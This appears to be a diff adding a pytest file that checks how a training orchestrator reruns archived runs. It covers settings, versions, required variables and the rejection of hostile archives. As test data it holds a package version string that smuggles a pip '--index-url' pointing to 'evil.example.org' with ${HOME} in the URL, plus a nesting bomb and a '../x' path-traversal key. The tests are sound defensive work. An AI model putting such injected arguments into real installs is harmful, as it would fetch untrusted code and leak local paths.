@@ -1,0 +1,101 @@
+"""What an archive may ask for: settings and versions, nothing of this machine."""
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from orchestrator.errors import ConfigError
+from orchestrator.reproduction import archive, exported, rerun
+from orchestrator.schema.packages import Installed
+from tests import builders
+from tests.unit.conftest import Cli
+from tests.unit.reproduction import cases
+
+
+def test_a_run_is_repeated_with_its_resolved_settings_from_the_beginning() -> None:
+    config = cases.TRAINED.config.model_copy(update={"precision": "bfloat16", "resume": "/shared/x", "restarts": 2})
+    old = cases.loaded(results=cases.TRAINED.model_copy(update={"config": config}))
+    found = rerun.settings(old)
+    assert (found.precision, found.resume, found.restarts, found.steps) == ("bfloat16", None, 0, None)
+
+
+@pytest.mark.parametrize("ended", ["max-time", "terminated"])
+def test_a_run_that_was_cut_short_makes_as_many_steps(ended: Any) -> None:
+    old = cases.loaded(results=cases.TRAINED.model_copy(update={"ended": ended}))
+    assert rerun.settings(old).steps == 8
+
+
+@pytest.mark.parametrize("changes", [{"model": "unknown"}, {"dataset": "unknown"}])
+def test_an_unknown_model_or_data_set_is_refused(changes: dict[str, str]) -> None:
+    config = cases.TRAINED.config.model_copy(update=changes)
+    with pytest.raises(ConfigError, match="'unknown' is unknown"):
+        rerun.settings(cases.loaded(results=None, config=config))
+
+
+def test_it_is_launched_as_it_was() -> None:
+    options = rerun.options(cases.loaded(run=builders.run(np=3, controller="mpi", autotune=True)))
+    assert options == {"launch.np": 3, "launch.controller": "mpi", "launch.cycle_time": 5.0,
+                       "launch.fusion_threshold": None, "launch.autotune": True, "launch.parameter_servers": None,
+                       "train.engine": "ours"}  # fmt: skip
+
+
+def test_packages_are_those_versions_and_no_words_for_pip() -> None:
+    overlay = {"einops": "0.8.0", "odd": "1.0 --index-url https://evil.example.org/${HOME}"}
+    found = rerun.versions(cases.loaded(packages=Installed(image={}, overlay=overlay)))
+    assert found is not None
+    assert found.lines == ["einops==0.8.0"]
+    assert rerun.versions(cases.loaded(packages=Installed(image={}))) is None
+
+
+def test_variables_must_be_given_again(tmp_path: Path) -> None:
+    (tmp_path / "train.py").write_text("print()")
+    state_dir, run = cases.scripted(tmp_path, "python", str(tmp_path / "train.py"), variables=["TOKEN"])
+    old = exported.load(state_dir.runs / run.id)
+    with pytest.raises(ConfigError, match=r"values are not in the archive: \['TOKEN'\]") as caught:
+        rerun.require_variables(old, {})
+    assert "--env NAME" in caught.value.hint
+    rerun.require_variables(old, {"TOKEN": "x"})
+
+
+def test_a_script_without_its_code_is_refused() -> None:
+    with pytest.raises(ConfigError, match="its code is not in the archive"):
+        rerun.source(cases.loaded())
+
+
+def changed(tmp_path: Path, **files: bytes) -> Path:
+    """An archive of a training run with other contents of some files, with the right checksums."""
+    state_dir, run = cases.trained()
+    directory = state_dir.runs / run.id
+    names = ("run.json", "config.json", "results.json", "provenance.json", "packages.json")
+    contents = {name: (directory / name).read_bytes() for name in names}
+    archive.write({**contents, **{n.replace("_", "."): c for n, c in files.items()}}, tmp_path / "run.tar.gz", 1)
+    return tmp_path / "run.tar.gz"
+
+
+@pytest.mark.parametrize(
+    ("files", "problem"),
+    [
+        ({"run_json": b"[]"}, "run.json: "),
+        ({"run_json": b"[" * 100_000}, "run.json: nested more than 64 levels deep"),
+        ({"config_json": b'{"run": "x"}'}, "config.json: model: Field required"),
+        ({"results_json": b'{"epochs": NaN}'}, "results.json: 'NaN' is not a finite number"),
+        ({"provenance_json": b'{"nodes": 7}'}, "provenance.json: nodes: 7"),
+        ({"packages_json": b'{"image": {"../x": "1"}}'}, "packages.json: image"),
+    ],
+)
+def test_hostile_files_end_with_one_message(cli: Cli, tmp_path: Path, files: dict[str, bytes], problem: str) -> None:
+    finished = cli("rerun", str(changed(tmp_path, **files)))
+    assert (finished.returncode, finished.stdout) == (2, "")
+    assert problem in " ".join(finished.stderr.split())
+    assert "Traceback" not in finished.stderr
+
+
+def test_code_of_an_archive_is_not_run_unasked(cli: Cli, tmp_path: Path) -> None:
+    (tmp_path / "code").mkdir()
+    (tmp_path / "code" / "train.py").write_text("print()")
+    cases.scripted(tmp_path / "code", "python", str(tmp_path / "code" / "train.py"))
+    assert cli("export", "-o", "run.tar.gz").returncode == 0
+    finished = cli("rerun", "run.tar.gz")
+    assert finished.returncode == 130
+    assert "the archive runs its own code on the cluster" in finished.stderr
